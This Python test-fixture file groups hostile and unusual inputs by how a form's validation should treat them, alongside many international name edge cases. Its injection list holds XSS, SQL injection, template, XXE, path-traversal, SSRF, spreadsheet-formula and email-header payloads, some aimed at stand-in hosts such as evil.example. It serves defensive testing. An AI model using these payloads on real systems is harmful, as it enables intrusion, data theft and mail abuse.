"""Hostile and unusual input, grouped by the expected outcome.

`KEPT` is stored as it is typed, `CHANGED` is stored as the value that stands beside it, `REFUSED`
is 422 wherever it stands, `EMPTY` counts as nothing typed. None has a line break; `LINES` are for
fields of several lines and refused in all others.
"""

from unicodedata import normalize

NAMES = (
    "O'Neil",
    "Conan O\u2019Brien",
    "Nguy\u1ec5n V\u0103n \u00c1nh",
    "\u6bdb",
    "\u200f\u0639\u0628\u062f \u0627\u0644\u0644\u0647",  # begins with a right-to-left mark
    "\u05d3\u05d5\u05d3 \u05d1\u05df\u05be\u05d2\u05d5\u05e8\u05d9\u05d5\u05df",
    "\u0645\u0631\u06cc\u0645 \u0645\u06cc\u200c\u0631\u0632\u0627\u0633\u06cc",  # a non-joiner
    "\u0936\u094d\u0930\u0940\u0928\u093f\u0935\u093e\u0938\u0928\u094d",
    "\u0dc1\u0dca\u200d\u0dbb\u0dd3",  # a joiner inside a letter
    "\u0e2a\u0e21\u0e0a\u0e32\u0e22",
    "\u0391\u03bb\u03ad\u03be\u03b1\u03bd\u03b4\u03c1\u03bf\u03c2",
    "\u0416\u0430\u043d\u043d\u0430 \u2116 5",
    "\u0130lknur I\u015f\u0131k",  # Turkish, with a dotted and a dotless i
    "Stra\u00dfe \u1e9e",
    "\u00de\u00f3r\u00f0ur J\u00f3nsd\u00f3ttir",
    "Jos\u00e9-Mar\u00eda d\u2019Arc",
    "\u02bbOkina K\u0101ne",
    "N!xau \u01c2Toma",
    "\U00020bb7\u91ce\u5bb6",  # outside the Basic Multilingual Plane
    "X \u00c6 A-12",
    "Null",
    "None",
    "undefined",
    "True",
    "0",
    "1e309",
    "NaN",
    "Robert'); DROP TABLE lead;--",
    "Mr. & Mrs. <Smith>",
)

LOOKS = (
    "\U0001f469\U0001f3fd\u200d\U0001f4bb",  # one emoji of four characters
    "\U0001f1fa\U0001f1f8\ufe0f",
    "\u0410d\u0430 \u0415xample",  # Cyrillic among Latin
    "\uff21\uff44\uff41",  # full width
    normalize("NFC", "A" + "".join(map(chr, range(0x300, 0x328))) + "da"),  # 40 marks, one letter
    "Ada\u202f\u00a0Example\u2003!",
    "\ufdd0Ada\U0001fffe",  # non-characters, valid in UTF-8
    "\ue000Ada\U000f0000",  # private use
    "\u0378Ada",  # not assigned
    "Ada\ufeff",
    "A\u00adda",
    "Ada\u0600",
    "\ufdfd",
    "\u2764\u200d\U0001f525",
)

INJECTIONS = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</textarea></title></style><svg/onload=alert(1)>",
    "javascript:alert(1)//",
    "&lt;b&gt; &amp;amp; &#x27; &#0;",
    "<!--#exec cmd='id'--> <?php phpinfo() ?> <% 7*7 %>",
    "]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    "{{7*7}} {% raw %} {# x #} ${7*7} #{7*7} #set($x=1)",
    "%s%n%d%x %(name)s {0} {name!r} {__class__} $HOME `id` $(id)",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(9)--",
    "x' UNION SELECT token_hash FROM sign_in_link--",
    "\\' OR 1=1 /* \\\\ */",
    "100% _under_ [a-z] \\% \\_",
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\uff1d1+1",
    "; | & > < ` ! # ~ ^",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "CON",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "(|(uid=*))",
    '{"$gt": ""}',
    "Ada;CN=x:mailto:evil@evil.example",
    "END:VEVENT BEGIN:VALARM ATTACH:http://evil.example",
    'Ada" <evil@evil.example>, "x',
    "%0d%0aBcc: evil@evil.example",
    "\\r\\nBcc: evil@evil.example",
    "=?utf-8?q?=0d=0aBcc:_evil@evil.example?=",
    "\\",
    "Ada\\",
    "'",
    '"',
    "''",
    "--",
    "%",
    "%%%00%ff",
    "\u02bc\u2018\u2019\u201c\u201d\u00ab\u00bb",
    "\u2044\u2215\u29f8\uff0f\uff3c",
)

KEPT = NAMES + LOOKS + INJECTIONS

# Text in one form, without overrides of its direction or white space around it.
CHANGED = {
    "  Ada \u3000": "Ada",
    "Zoe\u0308": "Zo\u00eb",
    "\u212bngstr\u00f6m \u2126": "\u00c5ngstr\u00f6m \u03a9",
    "\u1100\u1161\u11a8": "\uac01",
    **{f"Ann{chr(code)}exe": "Annexe" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))},
}

CONTROLS = tuple(
    f"A{chr(code)}da" for code in (*range(0x20), *range(0x7F, 0xA0)) if chr(code) not in "\t\n\r"
)
REFUSED = (*CONTROLS, "A\ufffeda", "A\uffffda")

# Invisible text: invisible characters, and letters with an empty shape.
EMPTY = (
    "",
    "   ",
    "\u200b",
    "\u200d\u200c\u2060\ufeff",
    "\u00ad\u034f\u061c",
    "\u200e\u200f",
    "\u3164",
    "\u115f\u1160\uffa0",
    "\u2800\u2800",
    "\U000e0041\U000e007f",
    "\ufe0f",
    "\u202e\u2066",
)

LINES = (
    "Ada\nBcc: evil@evil.example",
    "Ada\r\nBcc: evil@evil.example",
    "A\rda",
    "A\tda",
    "A\u2028da",
    "A\u2029da",
)

# Percent-encoded bytes that are not valid text.
NO_TEXT = (b"%ff", b"%c3%28", b"%ed%a0%80", b"%c0%80", b"%f4%90%80%80", b"%e2%82", b"\xff\xfe")
